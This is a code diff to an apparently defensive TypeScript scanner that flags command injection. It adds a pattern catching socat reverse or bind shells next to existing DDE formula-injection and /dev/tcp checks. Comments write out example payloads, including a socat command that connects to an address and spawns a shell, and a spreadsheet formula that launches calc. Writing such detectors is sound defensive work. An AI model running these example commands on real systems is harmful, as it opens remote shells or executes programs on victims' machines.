@@ -865,6 +865,8 @@ function variableRefAt(s: string, i: number): { name: string; end: number } | nu
 /** A cell's DDE call, at a cell's start (the value's, a line's or after a CSV's comma or tab): `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|'…'!A0`. */
 const DDE_FORMULA = /(?:^|[\n,;\t"])[ \t]*[=+\-@][^\n|]{0,64}?\b[A-Za-z][\w.]{0,31}[ \t]*\|[ \t]*['"][^'"\n]{0,256}['"][ \t]*![ \t]*[A-Za-z$]*\$?\d*/;
 
+const SOCAT_SHELL = /\bsocat\b[^\n]{0,200}?\b(?:exec|system)\s*:/i;
+
 /** Most variables joined into one command word (`$c1$c2$c3`). */
 const MAX_JOINED = 16;
 
@@ -1044,6 +1046,10 @@ function analyzeShell(s: string): Finding[] {
   // exported CSV is opened (formula injection). No honest formula names a program before `|'…'!`.
   const dde = s.indexOf("|") !== -1 && s.indexOf("!") !== -1 ? DDE_FORMULA.exec(s) : null;
   if (dde) out.push(finding("cmdi", "shell.dde-formula", 0.9, dde.index, dde.index + dde[0].length));
+  // socat joining a network address to a program (`socat tcp-connect:10.0.0.7:9001 exec:sh,pty`): a
+  // reverse or bind shell, whatever separates it from the value.
+  const socat = s.indexOf(":") !== -1 && /socat/i.test(s) ? SOCAT_SHELL.exec(s) : null;
+  if (socat) out.push(finding("cmdi", "shell.socat-shell", 0.9, socat.index, socat.index + socat[0].length));
   if (chars & HAS.SLASH && s.indexOf("/dev/") !== -1) {
     for (const m of s.matchAll(DEV_TCP)) {
       const before = s.slice(Math.max(0, m.index - 4), m.index);
